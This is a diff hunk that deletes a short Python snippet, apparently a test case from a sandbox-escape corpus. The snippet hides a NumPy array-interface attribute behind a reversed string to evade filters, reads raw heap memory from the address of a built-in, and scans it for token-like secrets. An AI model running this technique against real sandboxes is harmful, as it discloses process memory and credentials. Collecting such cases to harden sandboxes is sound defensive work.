@@ -1,8 +1,0 @@
-# reaches: vars() of an own object with a reversed key is an array interface over the heap
-import re
-import numpy as np
-class Point:
-    pass
-p = Point()
-vars(p)["".join(reversed("__ecafretni_yarra__"))] = {"data": (id(len), True), "shape": (1 << 17,), "typestr": "|u1", "version": 3}
-print(set(re.findall(rb"t[0-9a-f]{24}", np.asarray(p).tobytes())))
